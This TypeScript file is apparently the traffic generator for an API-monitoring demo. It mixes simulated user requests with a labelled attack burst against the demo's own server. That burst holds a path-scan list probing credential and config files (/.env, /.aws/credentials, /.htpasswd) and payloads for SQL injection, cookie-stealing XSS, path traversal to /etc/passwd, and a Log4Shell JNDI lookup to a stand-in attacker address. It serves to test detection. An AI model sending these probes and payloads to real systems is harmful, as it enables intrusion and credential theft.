// The demo's traffic generator: a mix of API calls over keep-alive node:http clients, at a bounded rate
// and bounded concurrency, timing each one as the client sees it (until the last body byte). Each call
// names its client in X-Forwarded-For (tapwire trusts it from 127.0.0.1 in the demo), so analysis sees
// many users, and one short attack burst: a path scanner and injection attempts from two addresses.
import http from 'node:http';
import { performance } from 'node:perf_hooks';

export interface TrafficResult {
  readonly method: string;
  /** the status the client got; undefined when the request failed */
  readonly status?: number;
  /** transport error code (ECONNRESET, timeout, ...) */
  readonly error?: string;
  /** the x-served-by header: which upstream really answered */
  readonly servedBy?: string;
  readonly ms: number;
}

export interface TrafficOptions {
  readonly host: string;
  readonly port: number;
  /** requests per second, across all workers */
  readonly rate: number;
  readonly concurrency: number;
  /** a request that takes longer is abandoned and counted as an error */
  readonly timeoutMs?: number;
  readonly random?: () => number;
  readonly onResult: (r: TrafficResult) => void;
}

export interface Call {
  readonly method: string;
  readonly path: string;
  readonly body?: string;
  /** the client address, sent as X-Forwarded-For */
  readonly source?: string;
  readonly userAgent?: string;
}

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';
/** Documentation addresses (RFC 5737): users in 203.0.113.0/24, attackers in 198.51.100.0/24. */
export const SCANNER_SOURCE = '198.51.100.23';
export const INJECTOR_SOURCE = '198.51.100.77';

const SCAN_PATHS = [
  '/.env', '/.git/config', '/wp-login.php', '/wp-admin/', '/phpmyadmin/', '/admin/config.php', '/server-status', '/.aws/credentials',
  '/backup.zip', '/db.sql', '/config.json', '/.DS_Store', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/test.cgi',
  '/actuator/env', '/console', '/.svn/entries', '/xmlrpc.php', '/solr/admin/', '/jenkins/script', '/manager/html', '/.htpasswd',
  '/debug/vars', '/internal/users', '/old/', '/test.php', '/info.php', '/shell.php', '/.well-known/security.txt.bak', '/login.action',
];

/** The attack burst: a path scan with a scanner's user agent, then a few injection attempts. */
export function attackCalls(): Call[] {
  const scan = SCAN_PATHS.map((path): Call => ({ method: 'GET', path, source: SCANNER_SOURCE, userAgent: 'Nikto/2.5.0' }));
  const injections: Call[] = [
    { method: 'GET', path: `/api/search?q=${encodeURIComponent("' OR '1'='1' --")}`, source: INJECTOR_SOURCE },
    { method: 'GET', path: `/api/search?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`, source: INJECTOR_SOURCE },
    { method: 'GET', path: `/api/items?page=${encodeURIComponent('../../../../etc/passwd')}`, source: INJECTOR_SOURCE },
    { method: 'GET', path: `/api/search?q=${encodeURIComponent('${jndi:ldap://198.51.100.77/a}')}`, source: INJECTOR_SOURCE },
  ];
  return [...scan, ...injections];
}

/** The mix: mostly reads, some writes (mirrored only because the demo's v2 is sandboxed), a few 404s. */
export function pickCall(random: () => number): Call {
  const r = random();
  const n = (max: number) => 1 + Math.floor(random() * max);
  // ids up to 1050 against 1000 users: about 5% of user lookups are honest 404s
  const source = `203.0.113.${n(60)}`;
  const call = (c: Call): Call => ({ ...c, source, userAgent: BROWSER });
  if (r < 0.33) return call({ method: 'GET', path: `/api/users/${n(1050)}` });
  if (r < 0.53) return call({ method: 'GET', path: `/api/items?page=${n(20)}` });
  if (r < 0.66) return call({ method: 'GET', path: `/api/products/${n(300)}` });
  if (r < 0.75) return call({ method: 'GET', path: `/api/search?q=${['lamp', 'desk', 'chair', 'cable', 'mug'][n(5) - 1]}` });
  if (r < 0.86) return call({ method: 'POST', path: '/api/orders', body: JSON.stringify({ items: Array.from({ length: n(5) }, () => ({ sku: `sku-${n(500)}`, qty: n(3) })) }) });
  if (r < 0.91) return call({ method: 'HEAD', path: `/api/users/${n(1000)}` });
  if (r < 0.96) return call({ method: 'OPTIONS', path: '/api/items' });
  return call({ method: 'GET', path: '/health' });
}

export class Traffic {
  readonly #opts: TrafficOptions;
  readonly #agent: http.Agent;
  readonly #random: () => number;
  readonly #interval: number;
  #next = 0;
  #running = false;
  #workers: Promise<void>[] = [];

  constructor(opts: TrafficOptions) {
    this.#opts = opts;
    this.#random = opts.random ?? Math.random;
    this.#interval = 1000 / Math.max(0.001, opts.rate);
    this.#agent = new http.Agent({ keepAlive: true, maxSockets: opts.concurrency });
  }

  start(): void {
    if (this.#running) return;
    this.#running = true;
    this.#next = performance.now();
    this.#workers = Array.from({ length: this.#opts.concurrency }, () => this.#worker());
  }

  /** Stops sending; resolves once every request already sent has finished. */
  async pause(): Promise<void> {
    this.#running = false;
    await Promise.all(this.#workers);
    this.#workers = [];
  }

  /** Sends `calls` one after the other, `gapMs` apart, alongside the regular traffic; resolves when all are answered. */
  async burst(calls: readonly Call[], gapMs: number, signal?: AbortSignal): Promise<void> {
    for (const c of calls) {
      if (signal?.aborted) return;
      this.#opts.onResult(await this.#send(c));
      await new Promise((r) => setTimeout(r, gapMs));
    }
  }

  async close(): Promise<void> {
    await this.pause();
    this.#agent.destroy();
  }

  async #worker(): Promise<void> {
    while (this.#running) {
      const now = performance.now();
      // After a stall, do not fire a burst to catch up: the rate is a ceiling, not a quota.
      if (this.#next < now - 50) this.#next = now;
      const wait = this.#next - now;
      this.#next += this.#interval;
      if (wait > 0) await new Promise((r) => setTimeout(r, wait));
      if (!this.#running) break;
      this.#opts.onResult(await this.#send(pickCall(this.#random)));
    }
  }

  #send(call: Call): Promise<TrafficResult> {
    const { host, port } = this.#opts;
    const started = performance.now();
    return new Promise<TrafficResult>((resolve) => {
      let done = false;
      const finish = (r: Omit<TrafficResult, 'ms' | 'method'>): void => {
        if (done) return;
        done = true;
        resolve({ method: call.method, ms: performance.now() - started, ...r });
      };
      const headers: Record<string, string> = { accept: 'application/json' };
      if (call.source !== undefined) headers['x-forwarded-for'] = call.source;
      if (call.userAgent !== undefined) headers['user-agent'] = call.userAgent;
      if (call.body !== undefined) {
        headers['content-type'] = 'application/json';
        headers['content-length'] = String(Buffer.byteLength(call.body));
      }
      const req = http.request({ host, port, method: call.method, path: call.path, headers, agent: this.#agent }, (res) => {
        const servedBy = res.headers['x-served-by'];
        res.on('data', () => undefined);
        res.on('end', () => finish({ status: res.statusCode ?? 0, ...(typeof servedBy === 'string' ? { servedBy } : {}) }));
        res.on('error', (err: NodeJS.ErrnoException) => finish({ error: err.code ?? err.message }));
        res.on('close', () => finish({ error: 'ABORTED' }));
      });
      req.setTimeout(this.#opts.timeoutMs ?? 5000, () => req.destroy(Object.assign(new Error('client timeout'), { code: 'CLIENT_TIMEOUT' })));
      req.on('error', (err: NodeJS.ErrnoException) => finish({ error: err.code ?? err.message }));
      req.end(call.body);
    });
  }
}
